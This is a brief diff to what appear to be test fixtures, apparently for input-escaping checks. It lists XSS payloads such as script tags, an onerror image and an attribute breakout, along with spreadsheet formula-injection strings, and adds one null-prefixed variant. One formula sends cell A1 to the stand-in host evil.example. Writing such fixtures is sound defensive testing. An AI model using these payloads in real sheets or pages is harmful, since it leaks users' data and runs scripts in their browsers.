@@ -15,7 +15,7 @@ IMG = "<img src=x onerror=alert(1)>"
 SCRIPT = "<script>alert('xss')</script>"
 ATTR = '" onmouseover="alert(1)" x="'
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-FORMULAS = (FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
+FORMULAS = (FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\0=1+1")
 OBRIEN = "O'Brien\\"
 QUOTES = "a'b\"c`d"
 RICH = "Ops Notes [/] x [bold red]boom[/]"
